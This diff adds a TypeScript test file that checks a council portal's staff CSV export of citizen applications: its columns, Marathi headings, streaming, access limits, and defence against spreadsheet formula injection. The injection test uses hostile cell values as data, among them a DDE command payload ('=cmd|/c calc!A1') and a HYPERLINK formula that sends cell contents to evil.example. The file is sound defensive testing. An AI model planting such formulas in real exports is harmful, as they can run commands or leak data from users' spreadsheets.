@@ -1,0 +1,177 @@
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { decideApplication } from '../../council/applications/decide.server.ts'
+import { submitApplication } from '../../council/applications/submit.server.ts'
+import { newCitizen, newStaff } from '../actors.ts'
+import { apply, factsOf, offer } from '../council/cases-for-tests.ts'
+import { openTestPortal, origin, type TestPortal } from './open-test-portal.ts'
+import { answers, newService } from './services-for-tests.ts'
+import type { Visitor } from './visitor.ts'
+
+const exported = '/staff/application/export'
+let portal: TestPortal
+let clerk: Visitor
+
+before(async () => {
+  portal = await openTestPortal()
+  clerk = await portal.signedIn('staff', 'S. Kulkarni')
+})
+after(() => portal.close())
+
+function linesOf(text: string) {
+  assert.ok(text.endsWith('\r\n'))
+  return text.slice(0, -2).split('\r\n')
+}
+
+test('the file has what the list shows, in its order, with headings in the language of the page', async () => {
+  const { db } = portal.council
+  const citizen = await newCitizen(db)
+  const service = await offer(db, factsOf(3, ['Ration card']))
+  const late = await apply(db, citizen, service, {
+    on: '2026-06-01',
+    atHand: [0],
+    applicantName: 'आशा पाटील',
+  })
+  const waiting = await apply(db, citizen, service, { on: '2026-06-02' })
+  const refused = await apply(db, citizen, service, { on: '2026-06-03', atHand: [0] })
+  const decision = {
+    status: 'Rejected',
+    reason: 'Not of, "this" village',
+    remark: 'Seen',
+    revision: 1,
+  } as const
+  await decideApplication(db, await newStaff(db), refused, decision)
+  const file = await clerk.get(`${exported}?service=${service}`)
+  assert.equal(file.status, 200)
+  assert.equal(file.headers.get('Content-Type'), 'text/csv; charset=utf-8; header=present')
+  assert.match(
+    file.headers.get('Content-Disposition') ?? '',
+    /^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/,
+  )
+  assert.equal(file.headers.get('Cache-Control'), 'no-store')
+  const [head, ...rows] = linesOf(file.html)
+  assert.equal(
+    head,
+    'Application no,Received,Service,Applicant,Phone No,Village,Pincode,Status,Turn,Complete since,Due date,Overdue,Decided,Reason,Remark',
+  )
+  const [first = '', second = '', third = '', ...more] = rows
+  assert.deepEqual(more, [])
+  assert.match(
+    first,
+    new RegExp(
+      `^${late},2026-06-01,Case \\d+,आशा पाटील,9876543210,Vadgaon,412803,Pending,With the council,2026-06-01,2026-06-04,Overdue,,,$`,
+    ),
+  )
+  assert.match(
+    second,
+    new RegExp(
+      `^${refused},2026-06-03,.*,Rejected,,2026-06-03,2026-06-06,,\\d{4}-\\d\\d-\\d\\d,"Not of, ""this"" village",Seen$`,
+    ),
+  )
+  assert.match(third, new RegExp(`^${waiting},2026-06-02,.*,Pending,Waiting for the applicant,,,,,,$`))
+
+  const only = await clerk.get(`${exported}?service=${service}&turn=citizen`)
+  assert.deepEqual(linesOf(only.html).slice(1), [third])
+  const found = await clerk.get(`${exported}?search=${encodeURIComponent('आशा')}`)
+  assert.deepEqual(linesOf(found.html).slice(1), [first])
+  const marathi = await clerk.send(`${exported}?service=${service}`, { headers: { 'Accept-Language': 'mr' } })
+  assert.match(marathi.html, /^अर्ज क्रमांक,/)
+  assert.match(marathi.html, /,प्रलंबित,ग्रामपंचायतीकडे,/)
+})
+
+test('what people write is a text to every spreadsheet, never a formula', async () => {
+  const { db } = portal.council
+  const citizen = await newCitizen(db)
+  const serviceId = await newService(portal)
+  const hostile = [
+    '=cmd|/c calc!A1',
+    '+1',
+    '-1',
+    '@SUM(1)',
+    '＝1+1',
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+  ]
+  for (const [nth, applicantName] of hostile.entries()) {
+    const fields = { ...answers, applicantName, applicantVillage: 'a,b"c' }
+    await submitApplication(db, citizen, serviceId, { fields, submissionKey: `hostile ${nth}` })
+  }
+  const { html } = await clerk.get(`${exported}?service=${serviceId}`)
+  const lines = linesOf(html)
+  assert.equal(lines.length, hostile.length + 1)
+  for (const text of hostile) assert.ok(html.includes(`,"'${text.replaceAll('"', '""')}",`), text)
+  assert.doesNotMatch(html, /(^|,)"?[=+@＝]/m)
+  assert.match(html, /,"a,b""c",/)
+})
+
+/** Copies one application of a service until there are so many. */
+async function manyOf(count: number) {
+  const { db } = portal.council
+  const service = await offer(db)
+  const one = await apply(db, await newCitizen(db), service)
+  const row = await db
+    .selectFrom('applications')
+    .selectAll()
+    .where('applicationId', '=', one)
+    .executeTakeFirstOrThrow()
+  for (let at = 1; at < count; at += 250) {
+    const copies = Array.from({ length: Math.min(250, count - at) }, (_, nth) => ({
+      ...{ ...row, applicationId: `${service}-MANY-${at + nth}`, submissionKey: `many ${at + nth}` },
+      inboxKey: `1:${String(at + nth).padStart(6, '0')}`,
+    }))
+    await db.insertInto('applications').values(copies).execute()
+  }
+  return service
+}
+
+test('five thousand applications come whole, each once', async () => {
+  const service = await manyOf(5000)
+  const { html } = await clerk.get(`${exported}?service=${service}`)
+  const lines = linesOf(html)
+  assert.equal(lines.length, 5001)
+  assert.equal(new Set(lines.map((line) => line.split(',')[0])).size, 5001)
+})
+
+test('the file is read as fast as it is taken, and no further once whoever took it has gone', async () => {
+  const service = await manyOf(5000)
+  const executor = portal.council.db.getExecutor()
+  const asked = executor.executeQuery.bind(executor)
+  let batches = 0
+  executor.executeQuery = (query) => {
+    if (/"applicantPincode"/.test(query.sql)) batches += 1
+    return asked(query)
+  }
+  try {
+    const cookie = [...clerk.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
+    const request = new Request(`${origin}${exported}?service=${service}`, {
+      headers: { Cookie: cookie, Host: new URL(origin).host },
+    })
+    const answer = await portal.fetch(request, '192.0.2.1')
+    const reader = answer.body?.getReader()
+    const first = await reader?.read()
+    assert.ok((first?.value?.length ?? 0) > 10_000)
+    // The mark by which a spreadsheet knows the file for UTF-8; a reader of texts takes it away.
+    assert.deepEqual([...(first?.value ?? []).slice(0, 3)], [0xef, 0xbb, 0xbf])
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    assert.equal(batches, 1)
+    for (let pieces = 0; pieces < 8; pieces += 1) await reader?.read()
+    const before = batches
+    assert.ok(before > 1 && before < 6, `${before} batches`)
+    await reader?.cancel()
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    assert.equal(batches, before)
+  } finally {
+    executor.executeQuery = asked
+  }
+})
+
+test('nobody but officers takes the file, and it is never gathered as data', async () => {
+  for (const who of [portal.visitor(), await portal.signedIn('user'), await portal.signedIn('admin')]) {
+    const answer = await who.get(exported)
+    assert.equal(answer.status, 303)
+    assert.doesNotMatch(answer.html, /Application no/)
+  }
+  const admin = await portal.signedIn('admin')
+  assert.match((await admin.get('/admin/application/export')).html, /^Application no,/)
+  assert.doesNotMatch((await clerk.get(`${exported}.data`)).html, /Vadgaon/)
+  assert.equal((await clerk.send(exported, { method: 'HEAD' })).html, '')
+})
